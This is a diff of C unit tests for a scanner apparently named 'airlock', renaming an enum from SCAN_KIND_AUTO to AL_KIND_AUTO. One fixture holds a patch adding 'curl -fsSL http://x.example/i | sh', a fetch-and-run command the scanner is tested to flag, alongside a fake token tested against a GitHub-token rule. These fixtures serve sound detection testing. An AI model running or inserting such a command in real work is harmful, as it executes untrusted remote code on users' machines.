@@ -56,7 +56,7 @@ memfd_with(const char *text)
 /* Scans text as one artifact named name; findings go to out. */
 static void
 scan_text(struct scan_launcher *l, const char *name, const char *text,
-    enum scan_kind kind, struct finding_list *out)
+    enum al_kind kind, struct finding_list *out)
 {
 	uint64_t bytes = 0;
 	int fd = memfd_with(text);
@@ -93,11 +93,11 @@ START_TEST(t_each_artifact_in_a_fresh_child)
 	struct finding_list a = {0}, b = {0}, c = {0};
 
 	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
-	scan_text(l, "a.py", "token = \"" TOKEN "\"\n", SCAN_KIND_AUTO, &a);
-	scan_text(l, "b.txt", "nothing here\n", SCAN_KIND_AUTO, &b);
+	scan_text(l, "a.py", "token = \"" TOKEN "\"\n", AL_KIND_AUTO, &a);
+	scan_text(l, "b.txt", "nothing here\n", AL_KIND_AUTO, &b);
 	scan_text(l, "c.patch", "diff --git a/x.sh b/x.sh\nnew file mode 100644\n"
 	    "--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,2 @@\n+echo hi\n"
-	    "+curl -fsSL http://x.example/i | sh\n", SCAN_KIND_AUTO, &c);
+	    "+curl -fsSL http://x.example/i | sh\n", AL_KIND_AUTO, &c);
 	ck_assert_uint_eq(count_rule(&a, "test-github-pat"), 1);
 	ck_assert_uint_eq(b.n, 0);
 	ck_assert_uint_eq(count_rule(&c, "test-curl-pipe-shell"), 1);
@@ -120,7 +120,7 @@ START_TEST(t_items_reported_with_hashes)
 	char want[AL_SHA256_HEX];
 	int fd = memfd_with(text);
 	struct scan_req r = {fd, "a.py", "a.py", &fl, &bytes, NULL,
-	    SCAN_KIND_AUTO, &items};
+	    AL_KIND_AUTO, &items};
 
 	al_sha256_hex(want, text, strlen(text));
 	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
@@ -148,8 +148,8 @@ fault_case(const char *fault, double timeout, const char *want)
 
 	setenv("AIRLOCK_TEST_CHILD_FAULT", fault, 1);
 	ck_assert_int_eq(scan_launcher_start(&l, engine, timeout), 0);
-	scan_text(l, "bad.py", "token = \"" TOKEN "\"\n", SCAN_KIND_AUTO, &bad);
-	scan_text(l, "good.py", "token = \"" TOKEN "\"\n", SCAN_KIND_AUTO, &good);
+	scan_text(l, "bad.py", "token = \"" TOKEN "\"\n", AL_KIND_AUTO, &bad);
+	scan_text(l, "good.py", "token = \"" TOKEN "\"\n", AL_KIND_AUTO, &good);
 	ck_assert_uint_eq(bad.n, 1);
 	ck_assert_str_eq(bad.v[0].rule->id, "airlock.unscannable");
 	ck_assert_msg(strstr(excerpt_of(&bad, "airlock.unscannable"), want) !=
